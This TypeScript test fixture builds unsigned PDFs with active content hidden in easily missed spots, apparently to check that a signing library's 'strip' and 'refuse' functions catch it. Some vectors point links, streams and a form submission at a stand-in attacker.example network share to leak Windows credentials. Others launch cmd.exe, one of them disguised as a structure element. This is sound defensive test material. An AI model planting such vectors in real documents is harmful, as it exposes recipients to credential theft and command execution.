/** Unsigned files with active content in locations where it is easily missed. `strip` and `refuse` must find it. */
import type { ActiveKind } from '@countersign/pdf-sign';

export interface ActiveVector {
  readonly name: string;
  readonly description: string;
  readonly kind: ActiveKind;
  /** Additional entries of the catalog and of the page, and additional objects, which are numbered from 5. */
  readonly catalog?: string;
  readonly page?: string;
  readonly objects?: readonly string[];
}

const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const SHARE = '(\\\\\\\\attacker.example\\\\share\\\\x.pdf)';
const annotation = (entries: string): string => `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]${entries}>>]`;
const stream = (entries: string): string => `<<${entries}/Length 0>>\nstream\n\nendstream`;

/** Returns a chain of actions, each of which triggers the next one. The last action runs a script. */
function chain(length: number): string[] {
  return Array.from({ length }, (_, index) => `<</S/GoTo/D[3 0 R/Fit]/Next ${6 + index} 0 R>>`).concat(SCRIPT);
}

export const activeVectors: readonly ActiveVector[] = [
  {
    name: 'active-chain-1001',
    description: 'A script runs after 1,001 harmless actions.',
    kind: 'javascript',
    catalog: '/OpenAction 5 0 R',
    objects: chain(1001),
  },
  {
    name: 'active-outline-direct',
    description: 'An outline item that is a direct object contains a script.',
    kind: 'javascript',
    catalog: `/Outlines<</First<</Title(One)/A${SCRIPT}>>>>`,
  },
  {
    name: 'active-outline-title',
    description: 'An action has a title, so it looks like an outline item.',
    kind: 'javascript',
    catalog: `/OpenAction<</Title(One)/S/JavaScript/JS(1)>>`,
  },
  {
    name: 'active-goto-share',
    description: 'A link opens a file on a network share, and Windows sends credentials to the share.',
    kind: 'open-remote',
    page: annotation(`/A<</S/GoToR/F${SHARE}/D[0/Fit]>>`),
  },
  {
    name: 'active-goto-specification',
    description: 'A link opens a file through a file specification.',
    kind: 'open-remote',
    page: annotation(`/A<</S/GoToR/F<</Type/Filespec/F(x.pdf)/UF${SHARE}>>/D[0/Fit]>>`),
  },
  {
    name: 'active-thread-remote',
    description: 'A link opens an article thread of a file on a network share.',
    kind: 'open-remote',
    page: annotation(`/A<</S/Thread/F${SHARE}/D 0>>`),
  },
  {
    name: 'active-stream-external',
    description: 'A stream loads its data from a file on a network share.',
    kind: 'open-remote',
    page: '/Metadata 5 0 R',
    objects: [stream(`/F${SHARE}/FFilter/FlateDecode`)],
  },
  {
    name: 'active-specification-share',
    description: 'An attachment is stored on a network share instead of in the file.',
    kind: 'open-remote',
    page: annotation(`/FS<</Type/Filespec/F${SHARE}>>`),
  },
  {
    name: 'active-uri-file',
    description: 'A link has a `file:` address.',
    kind: 'open-remote',
    page: annotation('/A<</S/URI/URI(file://attacker.example/share/x.pdf)>>'),
  },
  {
    name: 'active-uri-base',
    description: 'The base address of all links is a script.',
    kind: 'javascript',
    catalog: '/URI<</Base(javascript:)>>',
    page: annotation('/A<</S/URI/URI(alert\\(1\\))>>'),
  },
  {
    name: 'active-field-above',
    description: 'A parent field without a widget has trigger actions.',
    kind: 'javascript',
    catalog: '/AcroForm<</Fields[5 0 R]>>',
    objects: [`<</T(order)/AA<</C${SCRIPT}>>/Kids[6 0 R]>>`, '<</T(total)/Parent 5 0 R/FT/Tx/V(1)>>'],
  },
  {
    name: 'active-popup',
    description: "A note's pop-up window has an action.",
    kind: 'javascript',
    page: `/Annots[5 0 R]`,
    objects: [
      '<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Popup 6 0 R>>',
      `<</Type/Annot/Subtype/Popup/Rect[0 0 9 9]/Parent 5 0 R/A${SCRIPT}>>`,
    ],
  },
  {
    name: 'active-structure',
    description: 'A structure element has an action.',
    kind: 'javascript',
    catalog: `/StructTreeRoot<</Type/StructTreeRoot/K<</Type/StructElem/S/P/P null/A${SCRIPT}>>>>`,
  },
  {
    name: 'active-structure-disguise',
    description: 'An action also has the entries of a structure element.',
    kind: 'launch',
    catalog: '/OpenAction<</Type/StructElem/P null/K[]/S/Launch/F(cmd.exe)>>',
  },
  {
    name: 'active-piece-info',
    description: "A program's private data contains an action.",
    kind: 'javascript',
    page: `/PieceInfo<</Program<</LastModified(D:20260101)/Private<</Open${SCRIPT}>>>>>>`,
  },
  {
    name: 'active-unknown-key',
    description: 'An array under a non-standard key contains an action.',
    kind: 'submit',
    catalog: '/Unknown[[<</S/SubmitForm/F(https://attacker.example)>>]]',
  },
  {
    name: 'active-key-twice',
    description: "An action's type appears twice: one reader follows a link, another starts a program.",
    kind: 'ambiguous',
    catalog: '/OpenAction<</S/Launch/F(cmd.exe)/S/GoTo/D[3 0 R/Fit]>>',
  },
  {
    name: 'active-script-in-rendition',
    description: 'A rendition action contains a script.',
    kind: 'javascript',
    page: annotation('/A<</S/Named/N/NextPage/JS(app.alert\\(1\\))>>'),
  },
];

/** Returns a one-page file that contains a vector's additions. */
export function activeFile({ catalog = '', page = '', objects = [] }: ActiveVector): Buffer {
  const all = [
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<>>${page}>>`,
    '<</Length 23>>\nstream\n1 0 0 rg 9 9 99 99 re f\nendstream',
    ...objects,
  ];
  let file = '%PDF-1.7\n';
  const rows = all.map((object, index) => {
    const row = `${String(file.length).padStart(10, '0')} 00000 n \n`;
    file += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return row;
  });
  const size = all.length + 1;
  file += `xref\n0 ${size}\n0000000000 65535 f \n${rows.join('')}trailer\n<</Size ${size}/Root 1 0 R>>\nstartxref\n${file.length}\n%%EOF\n`;
  return Buffer.from(file, 'latin1');
}
